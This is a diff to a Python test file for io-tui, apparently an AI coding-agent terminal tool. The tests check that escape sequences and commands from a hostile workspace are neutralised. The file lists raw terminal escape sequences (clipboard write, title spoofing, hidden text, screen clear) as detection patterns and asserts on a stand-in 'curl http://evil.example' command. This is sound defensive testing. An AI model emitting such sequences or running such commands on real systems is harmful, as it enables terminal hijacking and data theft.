@@ -110,13 +110,20 @@ def test_a_workspace_mcp_json_starts_nothing_until_trusted(tmp_path: Path, hosti
     assert ran(hostile) == []
 
 
-def _terminal(*args: str, answer: str | None = None) -> bytes:
+# io-tui's own decorations of a terminal, off: the diff's colours, the bell and the desktop
+# notice of an ask. With them off, any byte that acts on the terminal came from the workspace.
+PLAIN = {"NO_COLOR": "1", "IO_TUI_UI__NOTIFY_ON_ASK": "off", "IO_TUI_UI__BELL_ON_ASK": "false"}
+# what the hostile workspace's text holds that would act on a terminal if it reached one raw
+RAW = (b"\x1b]52;", b"\x1b]0;pwned", b"\x1b[8m", b"\x1b[2J", b"\x1b[6n")
+
+
+def _terminal(*args: str, answer: str | None = None, plain: bool = True) -> bytes:
     """``io-tui ARGS`` with a pseudo-terminal as stdout and stderr (and stdin, typing ``answer``
-    into it, when given): what a terminal receives."""
+    into it, when given): what a terminal receives; ``plain``: io-tui's own decorations off."""
     main, child = pty.openpty()
     proc = subprocess.Popen(
         [*IO_TUI, *args], stdin=subprocess.DEVNULL if answer is None else child,
-        stdout=child, stderr=child, env=user_env(),
+        stdout=child, stderr=child, env=user_env(PLAIN if plain else {}),
     )  # fmt: skip
     os.close(child)
     if answer is not None:
@@ -186,6 +193,13 @@ def test_the_terminals_approval_prompt_shows_no_escape(tmp_path: Path, hostile: 
     assert b"notes.md" in seen and b"curl http://evil.example" in seen, seen[-500:]
     assert not _acts(seen), seen[-500:]
     assert not (hostile / "notes.md").exists()
+    # with io-tui's colours, bell and notice on, none of the workspace's sequences gets through
+    decorated = _terminal(
+        "run", "write notes", "-w", str(hostile), "--provider", f"scripted:{script}",
+        "--store", str(tmp_path / "again.db"), "--approve", "ask", answer="n\n", plain=False,
+    )  # fmt: skip
+    assert b"curl http://evil.example" in decorated, decorated[-500:]
+    assert not any(raw in decorated for raw in RAW), decorated[-500:]
 
 
 def test_names_that_are_not_utf8_never_fail_a_run(tmp_path: Path, hostile: Path) -> None:
